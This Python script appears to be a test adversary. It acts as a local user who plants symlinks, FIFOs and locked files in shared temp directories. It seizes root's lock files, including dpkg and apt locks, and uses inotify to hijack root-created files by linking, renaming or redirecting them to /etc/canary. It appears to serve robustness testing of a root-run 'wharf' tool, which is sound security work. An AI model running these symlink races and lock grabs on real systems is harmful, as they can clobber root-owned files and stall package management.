"""A user of the host who gets in root's way where everybody can write: makes names first, and takes what root makes.

    python3 get-in-the-way.py LOG

Each line of LOG is what was done, and to which path. What is harmful leads to /etc/canary, a file of root's.
"""

import ctypes
import errno
import fcntl
import os
import select
import stat
import struct
import sys

PLACES = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")
NAMES = (
    "wharf-registry-image.tar",
    "wharf-registry.lock",
    "wharf-repair-storage.lock",
    "wharf",
    "image.tar",
    "key.asc",
)
LOCKS = ("/run/wharf-registry.lock", "/run/wharf-repair-storage.lock", "/run/wharf-trim-caches.lock")
LOCKS += ("/var/lib/dpkg/lock", "/var/lib/apt/lists/lock")
CANARY = "/etc/canary"
CREATE, MOVED_TO = 0x100, 0x80

log = open(sys.argv[1], "a", buffering=1)  # noqa: SIM115 (as long as this runs)
held = []  # files that stay open, and locked


def note(what: str, path: str) -> None:
    print(what, path, file=log)


def hold(path: str) -> None:
    """Open a file of root's, and lock it for ever."""
    for how, flags in (("wrote", os.O_RDWR), ("read", os.O_RDONLY)):
        try:
            file = os.open(path, flags | os.O_NONBLOCK | os.O_NOFOLLOW)
        except OSError:
            continue
        if stat.S_ISREG(os.fstat(file).st_mode):
            held.append(file)
            note(how, path)
            fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
            note("locked", path)
        return


def attack(path: str) -> None:
    """Take something that root has made: open it, give it another name, lay a link in its place."""
    try:
        if os.lstat(path).st_uid != 0:
            return
    except OSError:
        return
    note("saw", path)
    for what, act in (
        ("opened", lambda: hold(path)),
        ("linked", lambda: os.link(path, f"{path}.linked", follow_symlinks=False)),
        ("moved", lambda: os.rename(path, f"{path}.moved")),
        ("replaced", lambda: os.symlink(CANARY, path)),
    ):
        try:
            act()
        except OSError:
            continue
        if what != "opened":
            note(what, path)


libc = ctypes.CDLL(None)
watch = libc.inotify_init()
places = {libc.inotify_add_watch(watch, os.fsencode(place), CREATE | MOVED_TO): place for place in PLACES}
for place in PLACES:
    for number, name in enumerate(NAMES):
        path = f"{place}/{name}"
        try:
            if number % 3 == 0:
                os.symlink(CANARY, path)
            elif number % 3 == 1:
                os.mkfifo(path)
            else:
                held.append(os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o666))
                fcntl.flock(held[-1], fcntl.LOCK_EX)
        except OSError as error:
            if error.errno != errno.EEXIST:
                raise
note("began", ",".join(PLACES))
while True:
    for path in LOCKS:
        hold(path)
    if select.select([watch], [], [], 0.05)[0]:
        events = os.read(watch, 65536)
        while events:
            number, _mask, _cookie, length = struct.unpack_from("iIII", events)
            attack(f"{places[number]}/{os.fsdecode(events[16 : 16 + length].rstrip(bytes(1)))}")
            events = events[16 + length :]
